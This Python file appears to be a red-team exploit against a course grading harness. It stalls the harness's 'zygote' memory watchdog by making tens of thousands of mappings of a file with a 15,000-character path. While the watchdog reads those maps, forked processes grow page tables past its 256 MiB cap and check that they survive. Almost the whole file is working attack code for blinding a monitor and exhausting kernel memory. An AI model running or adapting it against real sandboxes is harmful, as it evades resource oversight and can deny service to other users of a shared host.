import ctypes
import os
import select
import signal
import struct
import time

MIB, GIB = 1 << 20, 1 << 30
CAP = 320 * MIB  # one and a quarter times what the zygote's watch allows (256 MiB; it looks every 50 ms): the bar
GROWERS = 2  # at once, each holding EACH_GROWS of page tables (8 KiB of tables a page)
EACH_GROWS = 288 * MIB
STALLERS = 8  # each maps one file MAPPINGS times: the zygote reads every process's /proc/PID/maps whole
MAPPINGS = 10_000  # 80,000 in all, under the 100,000 the zygote allows
LEVELS = 60  # folders of PART-long names: each line of those maps names a path of 15,060 characters
PART = "q" * 250
PAGE = 4096
SPACING = GIB  # a page every 1 GiB: each costs a page-table page and a page-middle-directory page
WAIT_S = 1.0  # at most, after the stallers are ready, for the zygote's look at the files (every 0.5 s) to begin
BUSY = 0.2  # the share of a CPU the zygote uses while it reads the maps (its watch alone: a few percent)
SECONDS = 4.5  # for the growers; the red team's grader gives one test's calls 10 s
HOLD_S = 0.5  # held this long after the growers are done: 10 looks of a watch that ran (every 50 ms)
MAP_PRIVATE, MAP_ANONYMOUS, MAP_NORESERVE = 0x02, 0x20, 0x4000
GROUP_PREFIX = "cs336-worker-"  # the memory group the grader makes for a worker, where it can
_outcome = []  # (held bytes, what happened), once per process: every later call answers the same

_libc = ctypes.CDLL(None, use_errno=True)
_libc.mmap.restype = ctypes.c_void_p
_libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
_libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
_FAILED = ctypes.c_void_p(-1).value


def _cpu_s(pid):
    """User and system CPU seconds of process `pid` from /proc/PID/stat (readable whatever its dumpable flag)."""
    try:
        with open(f"/proc/{pid}/stat") as handle:
            fields = handle.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
    except (OSError, IndexError, ValueError):
        return 0.0


def _reading(zygote, deadline):
    """Wait until the zygote spends most of a CPU (it is reading the maps) or the deadline; seconds waited."""
    start = before = time.monotonic()
    used = _cpu_s(zygote)
    while time.monotonic() < deadline:
        time.sleep(0.1)
        now, cpu = time.monotonic(), _cpu_s(zygote)
        if cpu - used >= BUSY * (now - before):
            break
        before, used = now, cpu
    return time.monotonic() - start


def _vmpte_kib():
    with open("/proc/self/status") as handle:
        for line in handle:
            if line.startswith("VmPTE:"):
                return int(line.split()[1])
    return 0


def deep_file():
    """A descriptor of a file of one page at the end of a chain of LEVELS folders in the working folder (made
    one level at a time by descriptor), whose whole path the kernel writes on each line of /proc/PID/maps
    that maps it."""
    folder = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    try:
        for name in ["deep-stall"] + [PART] * LEVELS:
            try:
                os.mkdir(name, dir_fd=folder)
            except FileExistsError:
                pass
            inner = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=folder)
            os.close(folder)
            folder = inner
        fd = os.open("f", os.O_RDWR | os.O_CREAT, 0o600, dir_fd=folder)
    finally:
        os.close(folder)
    os.ftruncate(fd, PAGE)
    return fd


def _stall(fd):
    """MAPPINGS mappings of the file's one page (each at offset 0: neighbours that never merge); how many."""
    made = 0
    for _ in range(MAPPINGS):
        if _libc.mmap(None, PAGE, 1, MAP_PRIVATE, fd, 0) in (None, _FAILED):
            break
        made += 1
    return made


def _scatter(deadline):
    """One read-only page of 4 KiB every SPACING bytes (by address hints), each read (the shared zero page: no
    memory), until EACH_GROWS of page tables, the kernel's limit on mappings or the deadline; pages mapped."""
    pages, start = 0, 1 << 40
    while time.monotonic() < deadline and pages < EACH_GROWS // 8192:
        want = start + pages * SPACING
        got = _libc.mmap(want, PAGE, 1, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0)
        if got in (None, _FAILED):
            break
        if got != want:
            _libc.munmap(got, PAGE)
            break
        ctypes.c_char.from_address(got).value
        pages += 1
    return pages


def _child(writer, work):
    """In a forked child: do `work`, say the number it returns, then sleep until killed."""
    try:
        said = work()
    except BaseException:  # noqa: BLE001 - the parent must hear from every child
        said = 0
    os.write(writer, struct.pack("<Q", said))
    while True:
        time.sleep(60)


def _report(reader, until):
    """The number a child wrote, or 0 where none came by `until` (a child the watch ended says nothing)."""
    if not select.select([reader], [], [], max(until - time.monotonic(), 0))[0]:
        return 0
    got = os.read(reader, 8)
    return struct.unpack("<Q", got)[0] if len(got) == 8 else 0


def _fork(children, writer, reader, work):
    pid = os.fork()
    if pid == 0:
        os.close(reader)
        try:
            _child(writer, work)
        finally:
            os._exit(0)
    children.append(pid)


def grow_while_the_watch_reads(zygote):
    """Stallers whose maps take the zygote seconds to read, then, while it reads them, growers of page tables
    past what its watch allows, held HOLD_S. (bytes of page tables held, what happened)."""
    start = time.monotonic()
    children, mappings, held = [], 0, 0
    reader, writer = os.pipe()
    fd = deep_file()
    try:
        for _ in range(STALLERS):
            _fork(children, writer, reader, lambda: _stall(fd))
        for _ in range(STALLERS):
            mappings += _report(reader, start + SECONDS)
        ready = time.monotonic()
        reading = _reading(zygote, ready + WAIT_S)
        zygote_cpu = _cpu_s(zygote)
        deadline = time.monotonic() + SECONDS
        growers = []

        def grow():
            before = _vmpte_kib()
            _scatter(deadline)
            return (_vmpte_kib() - before) * 1024

        for _ in range(GROWERS):
            _fork(growers, writer, reader, grow)
        for _ in growers:
            held += _report(reader, deadline + 1)
        children += growers
        grown = time.monotonic()
        time.sleep(HOLD_S)
        alive = sum(1 for pid in growers if os.waitpid(pid, os.WNOHANG) == (0, 0))
        happened = (f"{STALLERS} stallers of {mappings:,} mappings in all ready in {ready - start:.1f} s, the "
                    f"zygote busy {reading:.1f} s later; "
                    f"{len(growers)} growers ({alive} alive after {HOLD_S:g} s more) held {held / MIB:,.0f} MiB of "
                    f"page tables from {grown - ready:.1f} s after; the zygote used {_cpu_s(zygote) - zygote_cpu:.1f} "
                    f"s of CPU meanwhile; {time.monotonic() - start:.1f} s")
        if alive < len(growers):
            held = 0
    finally:
        for pid in children:
            try:
                os.kill(pid, signal.SIGKILL)
                os.waitpid(pid, 0)
            except OSError:
                pass
        os.close(reader)
        os.close(writer)
        os.close(fd)
    return held, happened


def memory_group():
    """The memory cgroup the grader made for this worker, where /proc/self/cgroup names one (None else)."""
    try:
        with open("/proc/self/cgroup") as handle:
            for line in handle:
                _, controllers, path = line.rstrip("\n").split(":", 2)
                if (controllers == "" or "memory" in controllers.split(",")) and GROUP_PREFIX in path:
                    return path
    except (OSError, ValueError):
        return None
    return None


def attack(args):
    """Once per process, grow the page tables while the zygote reads the stallers' maps. If they reached the cap
    and lived on, answer honestly (full marks on Problem 1 is the attack getting through), else fail saying what
    stopped them."""
    if not _outcome:
        _outcome.append(grow_while_the_watch_reads(os.getppid()))
    held, happened = _outcome[0]
    group = memory_group()
    if group is not None:
        raise MemoryError(f"held {held / MIB:,.0f} MiB of page tables ({happened}), but the kernel charges them to "
                          f"the worker's memory group {group}, which bounds them whether the zygote watches or not")
    if held < CAP:
        raise MemoryError(f"held only {held / MIB:,.0f} MiB of page tables under the watch ({happened})")
    if len(_outcome) == 1:
        _outcome.append("said")
        print(f"held {held / MIB:,.0f} MiB of page tables while the zygote read long maps ({happened})", flush=True)
    return None  # the function's own body runs on
